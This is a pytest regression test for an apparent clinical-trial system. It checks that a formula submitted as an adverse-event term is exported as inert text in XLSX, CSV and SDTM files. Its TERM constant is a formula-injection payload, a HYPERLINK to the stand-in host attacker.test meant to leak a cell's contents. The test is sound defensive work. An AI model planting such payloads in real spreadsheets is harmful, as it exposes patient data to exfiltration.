"""Issue 12, finding 2, end to end: a formula entered through the API as an adverse-event
term reaches the coordinator's XLSX, CSV and SDTM CSV as text, never as a formula.
(Every format and every free-text field: tests/reporting/test_spreadsheet_safety.py.)"""

import csv
import io
import zipfile

import openpyxl
import pytest

from exchange import datasets
from tests.visits.factories import full_cycle

pytestmark = pytest.mark.django_db

TERM = '=HYPERLINK("https://attacker.test/?d="&A2,"note")'


def download(client, name):
    response = client.get("/exports/download/", {"format": name})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


@pytest.mark.req("URS-CPY-009")
def test_a_formula_typed_as_an_adverse_event_term_is_text_in_every_spreadsheet(
        api_for, clinician, coordinator, client_for, patient):
    full_cycle(patient)
    response = api_for(clinician).post("/api/v1/adverse-events/", {
        "patient": patient.pk, "term": TERM, "onset_date": "2025-03-18", "grade": 1, "serious": False,
        "relatedness": "possible", "outcome": "recovered"}, format="json")
    assert response.status_code == 201, response.json()
    client = client_for(coordinator)

    sheet = openpyxl.load_workbook(io.BytesIO(download(client, "xlsx")))["adverse_events"]
    column = datasets.TABLES_BY_NAME["adverse_events"].column_names.index("term") + 1
    terms = list(next(sheet.iter_cols(min_col=column, max_col=column, min_row=2)))
    assert [(c.value, c.data_type) for c in terms] == [("'" + TERM, "s")]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    archive = zipfile.ZipFile(io.BytesIO(download(client, "csv")))
    rows = list(csv.DictReader(io.StringIO(archive.read("adverse_events.csv").decode("utf-8"))))
    assert [r["term"] for r in rows] == ["'" + TERM]

    archive = zipfile.ZipFile(io.BytesIO(download(client, "sdtm")))
    rows = list(csv.DictReader(io.StringIO(archive.read("ae.csv").decode("utf-8"))))
    assert [r["AETERM"] for r in rows] == ["'" + TERM]
